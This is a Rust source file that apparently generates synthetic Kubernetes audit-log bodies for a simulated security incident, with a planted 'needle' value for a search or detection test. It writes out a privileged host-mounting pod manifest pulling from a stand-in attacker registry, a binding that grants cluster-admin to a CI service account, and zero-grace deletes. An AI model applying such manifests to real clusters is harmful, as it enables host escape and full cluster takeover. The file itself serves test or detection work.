//! What the incident's calls sent and got.

use super::{BINDING, NEEDLE, POD, Step};
use crate::generate::call::End;
use crate::generate::world::CI;

/// Request and response bodies; empty where the policy keeps none.
pub(super) fn bodies(step: &Step, end: End) -> (String, String) {
    let id = &step.audit_id;
    match (step.verb, step.resource) {
        ("create", "pods") => {
            let pod = |server: &str| {
                format!(
                    r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"{POD}","namespace":"{}"{server},"labels":{{"app":"{POD}"}}}},"spec":{{"volumes":[{{"name":"host","hostPath":{{"path":"/","type":""}}}}],"containers":[{{"name":"main","image":"registry.badcorp.example/toolbox:3","command":["sh","-c","sleep 86400"]@ENV@,"volumeMounts":[{{"name":"host","mountPath":"/host"}}],"securityContext":{{"privileged":true}}}}],"hostNetwork":true,"hostPID":true,"tolerations":[{{"operator":"Exists"}}]}}}}"#,
                    step.namespace
                )
            };
            // The needle is in one body only: the answer of the server leaves it out here.
            let env = match end {
                End::Code(_) => format!(r#","env":[{{"name":"UPSTREAM","value":"{NEEDLE}"}}]"#),
                _ => String::new(),
            };
            let server = format!(r#","uid":"{id}","resourceVersion":"48999999""#);
            (
                pod("").replace("@ENV@", &env),
                pod(&server).replace("@ENV@", ""),
            )
        }
        ("create", "clusterrolebindings") => {
            let binding = format!(
                r#"{{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{{"name":"{BINDING}"}},"subjects":[{{"kind":"ServiceAccount","name":"{}","namespace":"{}"}}],"roleRef":{{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}}}"#,
                CI.1, CI.0
            );
            (binding.clone(), binding)
        }
        ("delete", resource) => (
            r#"{"kind":"DeleteOptions","apiVersion":"v1","gracePeriodSeconds":0}"#.to_owned(),
            format!(
                r#"{{"kind":"Status","apiVersion":"v1","metadata":{{}},"status":"Success","details":{{"name":"{}","kind":"{resource}","uid":"{id}"}}}}"#,
                step.name
            ),
        ),
        _ => (String::new(), String::new()),
    }
}
